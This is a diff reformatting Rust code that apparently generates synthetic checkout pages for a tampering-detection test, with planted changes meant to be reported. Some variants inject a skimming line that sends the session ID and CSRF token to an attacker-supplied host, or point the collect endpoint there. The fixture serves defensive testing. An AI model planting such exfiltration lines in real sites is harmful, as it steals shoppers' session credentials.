@@ -19,7 +19,8 @@ pub const VOLATILE_PATH: &str = "/volatile/checkout";
 
 const APP_JS: &str = "(function(){var f=document.getElementById('pay-form');if(!f)return;f.addEventListener('submit',function(e){e.preventDefault();document.getElementById('status').textContent='Processing…';});})();\n";
 const LIB_JS: &str = "window.fmt={money:function(v,c){return new Intl.NumberFormat('en-IE',{style:'currency',currency:c}).format(v)}};\n";
-const TAG_JS: &str = "(function(){window.tagwell=window.tagwell||{q:[]};window.tagwell.q.push(['pageview',location.pathname]);})();\n";
+const TAG_JS: &str =
+    "(function(){window.tagwell=window.tagwell||{q:[]};window.tagwell.q.push(['pageview',location.pathname]);})();\n";
 const AB_JS: &str = "(function(){document.documentElement.setAttribute('data-variant','b');var b=document.getElementById('pay');if(b)b.textContent='Pay securely now';})();\n";
 
 /// A change planted in the volatile checkout that must be reported as `altered_script`.
@@ -100,7 +101,14 @@ fn page(rng: &Rng, load: u64, vendor: &str, attacker: &str, change: VolatileChan
     let csrf = rng.token(32);
     let session = format!("{:016x}{:016x}", rng.next(), rng.next());
     let now_ms = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_millis()).unwrap_or(0) + u128::from(load);
-    let request_id = format!("{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}", rng.next() as u32, rng.below(1 << 16), rng.below(1 << 12), rng.below(1 << 12), rng.next() & 0xFFFF_FFFF_FFFF);
+    let request_id = format!(
+        "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
+        rng.next() as u32,
+        rng.below(1 << 16),
+        rng.below(1 << 12),
+        rng.below(1 << 12),
+        rng.next() & 0xFFFF_FFFF_FFFF
+    );
 
     let mut session_js = format!(
         "window.__session = {{ id: \"{session}\", csrf: \"{csrf}\", ts: {now_ms}, started: \"{}\", requestId: \"{request_id}\", ttl: {} }};\ndocument.querySelector('meta[name=csrf-token]').setAttribute('content', window.__session.csrf);",
@@ -108,10 +116,17 @@ fn page(rng: &Rng, load: u64, vendor: &str, attacker: &str, change: VolatileChan
         1800 + rng.below(60)
     );
     if change == VolatileChange::StatementAppendedToSession {
-        session_js.push_str(&format!("\nnew Image().src = \"{attacker}/collect?s=\" + encodeURIComponent(JSON.stringify(window.__session));"));
+        session_js.push_str(&format!(
+            "\nnew Image().src = \"{attacker}/collect?s=\" + encodeURIComponent(JSON.stringify(window.__session));"
+        ));
     }
 
-    let products = [("HP-JKT-0142-M", "Waxed canvas field jacket", 149.0), ("HP-BNE-0031", "Merino wool beanie", 35.0), ("HP-SCF-0007", "Lambswool scarf", 49.5), ("HP-GLV-0210-L", "Leather gloves", 65.0)];
+    let products = [
+        ("HP-JKT-0142-M", "Waxed canvas field jacket", 149.0),
+        ("HP-BNE-0031", "Merino wool beanie", 35.0),
+        ("HP-SCF-0007", "Lambswool scarf", 49.5),
+        ("HP-GLV-0210-L", "Leather gloves", 65.0),
+    ];
     let count = 1 + rng.below(products.len() as u64) as usize;
     let mut items = Vec::new();
     let mut subtotal = 0.0;
@@ -134,7 +149,11 @@ fn page(rng: &Rng, load: u64, vendor: &str, attacker: &str, change: VolatileChan
         "window.cart = {cart_json};\n{inserted}document.getElementById('cart-total').textContent = window.fmt ? window.fmt.money(window.cart.subtotal, window.cart.currency) : String(window.cart.subtotal);"
     );
 
-    let collect = if change == VolatileChange::ExfilHostInConfig { format!("{attacker}/collect") } else { format!("{vendor}/collect") };
+    let collect = if change == VolatileChange::ExfilHostInConfig {
+        format!("{attacker}/collect")
+    } else {
+        format!("{vendor}/collect")
+    };
     let config_js = format!(
         "window.shopConfig = {{ storeCode: \"eu_en\", publishableKey: \"pk_live_{}\", collect: \"{collect}\", experiment: \"{}\", renderedAt: {now_ms} }};",
         rng.token(24),
@@ -149,8 +168,14 @@ fn page(rng: &Rng, load: u64, vendor: &str, attacker: &str, change: VolatileChan
         format!("<script nonce=\"{nonce}\" src=\"/volatile/static/app.js?v={}\"></script>", rng.below(1000)),
         format!("<script nonce=\"{nonce}\" src=\"/volatile/static/lib.js?_={now_ms}\"></script>"),
         format!("<script nonce=\"{nonce}\" src=\"{vendor}/tag.js?cb={:016x}\"></script>", rng.next()),
-        format!("<script nonce=\"{nonce}\">{}</script>", layer("begin_checkout", format!("value: {subtotal:.2}, ts: {now_ms}"))),
-        format!("<script nonce=\"{nonce}\">{}</script>", layer("checkout_progress", format!("step: 1, session: \"{session}\", sent: {now_ms}"))),
+        format!(
+            "<script nonce=\"{nonce}\">{}</script>",
+            layer("begin_checkout", format!("value: {subtotal:.2}, ts: {now_ms}"))
+        ),
+        format!(
+            "<script nonce=\"{nonce}\">{}</script>",
+            layer("checkout_progress", format!("step: 1, session: \"{session}\", sent: {now_ms}"))
+        ),
     ];
     if load % 3 != 2 {
         independent.push(format!("<script nonce=\"{nonce}\" src=\"/volatile/static/ab-test.js\"></script>"));
